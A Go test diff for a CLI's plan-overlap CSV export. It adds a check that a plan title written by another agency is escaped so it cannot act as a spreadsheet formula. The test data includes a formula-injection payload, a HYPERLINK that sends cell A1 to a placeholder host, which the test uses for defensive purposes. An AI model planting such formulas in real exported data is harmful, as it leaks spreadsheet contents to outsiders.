@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"google.golang.org/protobuf/proto"
 	"os"
 	"path/filepath"
 	"strings"
@@ -285,6 +286,19 @@ func TestRunPlansViews(t *testing.T) {
 	if err != nil || len(records) != 2 || records[0][0] != "first_plan" || records[1][1] != "ilo" || records[1][6] != "iom" ||
 		records[1][10] != "prevention" || records[1][11] != "KH-1" || records[1][12] != "2026-01-01" {
 		t.Errorf("overlaps CSV (%v):\n%s", err, r.stdout)
+	}
+	// A title another agency wrote cannot act as a spreadsheet formula.
+	var iloPlan *exchangev1.Plan
+	for _, p := range f.server.Plans() {
+		if p.GetOwner() == "agencies/ilo" {
+			iloPlan = proto.CloneOf(p)
+		}
+	}
+	iloPlan.Title = "=HYPERLINK(\"http://x.example/\"&A1)"
+	f.server.PutPlan(iloPlan)
+	r = f.runAs("agency/unicef", "plans", "overlaps", "--csv").must(t)
+	if records, err = csv.NewReader(strings.NewReader(r.stdout)).ReadAll(); err != nil || len(records) != 2 || records[1][3] != "'"+iloPlan.Title {
+		t.Errorf("overlaps CSV with a formula title (%v):\n%s", err, r.stdout)
 	}
 	r = f.runAs("agency/unicef", "--json", "plans", "overlaps").must(t)
 	var overlaps []map[string]any
